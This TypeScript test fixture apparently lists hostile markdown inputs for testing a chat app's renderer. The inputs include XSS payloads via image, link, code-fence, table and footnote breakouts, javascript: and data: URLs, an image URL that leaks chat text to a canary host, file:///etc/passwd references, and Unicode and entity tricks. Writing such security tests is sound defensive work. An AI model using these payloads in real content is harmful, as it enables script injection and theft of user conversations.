import { CANARY, RUN, type Vectors } from './vector.ts'

export const images: Vectors = {
  'an image': `![x](${CANARY}/a.png)`,
  'an image whose URL leaks the chat': `![x](${CANARY}/a.png?secret=of+the+chat)`,
  'an image of javascript': `![x](javascript:${RUN})`,
  'an image of a page': `![x](data:text/html,<script>${RUN}</script>)`,
  'an image of an SVG that runs': `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
  'an image without a scheme': '![x](//canary.test/a.png)',
  'an image of a file': '![x](file:///etc/passwd) ![y](blob:null/x)',
  'an image whose text breaks out': `![x" onerror="${RUN}](${CANARY}/a.png)`,
  'an image whose title breaks out': `![x](${CANARY}/a.png "t\\" onerror=\\"${RUN}")`,
  'an image whose URL breaks out': `![x](${CANARY}/a.png"onerror="${RUN})`,
  'an image in a link': `[![x](${CANARY}/a.png)](javascript:${RUN})`,
  'an image in the text of an image': `![![x](${CANARY}/a.png)](${CANARY}/b.png)`,
  'an image in a heading, a table and a note': `# ![x](${CANARY}/a.png)\n\n|![x](${CANARY}/b.png)|\n|-|\n\n[^1]\n\n[^1]: ![x](${CANARY}/c.png)`,
  'an image from a URL of the app': '![x](/ai/chat/stream?message=x) ![y](/__stub/state)',
}

export const code: Vectors = {
  'an info string with a handler': `\`\`\`js" onmouseover="${RUN}\ncode\n\`\`\``,
  'an info string with a curly quote': `\`\`\`” onmouseover=${RUN}\ncode\n\`\`\``,
  'an info string with a tag': `~~~<img src=x onerror=${RUN}>\ncode\n~~~`,
  'an info string of classes': '```js dialog sidebar fixed\ncode\n```',
  'an info string that is huge': `\`\`\`${'class '.repeat(500)}\ncode\n\`\`\``,
  'an info string of a path': '```../../../__stub/state\ncode\n```',
  'an info string that is a URL': `\`\`\`${CANARY}/language.js\ncode\n\`\`\``,
  'an info string of property names': '```__proto__\ncode\n```\n\n```constructor\ncode\n```',
  'an info string with attributes': `\`\`\`js {onclick="${RUN}" .x #app}\ncode\n\`\`\``,
  'code that ends its element': `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
  'code of HTML with syntax colors': `\`\`\`html\n<img src="${CANARY}/a.png" onerror="${RUN}">\n\`\`\``,
  'code in a line that ends its element': `\`</code><img src=x onerror=${RUN}>\``,
  'code that is indented': `    <script>${RUN}</script>\n    <img src=x onerror=${RUN}>`,
}

export const tables: Vectors = {
  'a cell with HTML': `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|-|-|\n| <script>${RUN}</script> | \`</td>\` |`,
  'an alignment that breaks out': `| a | b |\n|:-"onclick="${RUN}:|-:|\n| c | d |`,
  'a row with too many cells': `|a|\n|-|\n${'|x'.repeat(300)}|`,
  'a header of property names': '| __proto__ | constructor |\n|-|-|\n| toString | valueOf |',
}

export const footnotes: Vectors = {
  'a label of property names':
    '[^__proto__] [^constructor]\n\n[^__proto__]: one\n\n[^constructor]: two',
  'a label without a definition': '[^__proto__] [^toString] [^hasOwnProperty]',
  'a label with a tag': `[^<img>]\n\n[^<img>]: x`,
  'a label that breaks out': `[^a"onclick="${RUN}]\n\n[^a"onclick="${RUN}]: x`,
  'a label that is an id of the app': '[^app]\n\n[^app]: x\n\n[x](#app)',
  'a note with a script': `[^1]\n\n[^1]: [x](javascript:${RUN}) <img src=x onerror=${RUN}>`,
  'a note that calls itself': '[^1]\n\n[^1]: a [^1] [^2]\n\n[^2]: b [^1] [^2]',
  'a note called many times': `${'[^1] '.repeat(100)}\n\n[^1]: x`,
}

export const letters: Vectors = {
  'right-to-left overrides':
    'https://canary.test/\u202egpj.exe and [\u202eelbat\u202c](http://canary.test/\u202e)',
  'isolates that are never closed':
    '\u2066\u2067\u2068 text \u202b more\n\n# heading \u202e\n\nend',
  'zero-width characters': `[x](java\u200bscript:${RUN}) <scr\u200dipt>${RUN}</scr\u200dipt> \ufeff# x`,
  'NUL everywhere': `\u0000# a\u0000\n\n[x\u0000](java\u0000script:${RUN}) \`\u0000\` <\u0000script>`,
  'control characters': '\u0001\u0008\u000b\u000c\u001f\u007f\u0085 [x](\u0002\u0003) `\u0004`',
  'lone surrogates': '\ud800 [\udc00](http://canary.test/\ud800) `\udfff` \ud83d',
  'entities with huge numbers': '&#99999999; &#x110000; &#xFFFFFF; &#0; &#xD800; &#4294967337;',
  'an entity that is long': `&#${'0'.repeat(300)}60;img src=x onerror=${RUN}&gt; &${'a'.repeat(300)};`,
  'entities encoded twice': `&amp;lt;img src=x onerror=${RUN}&amp;gt; &amp;#106;`,
  'other line ends': `# a\u2028<script>${RUN}</script>\u2029\r[x](javascript:${RUN})\r\n\u0085---`,
  'property names': '__proto__ **__proto__** `constructor` [toString](#valueOf) __proto__: 1',
  'replacement patterns': "$& $1 $` $' $$ %s %o {0} ${1} [$&]($&)\n\n[$&]: http://canary.test/$&",
}
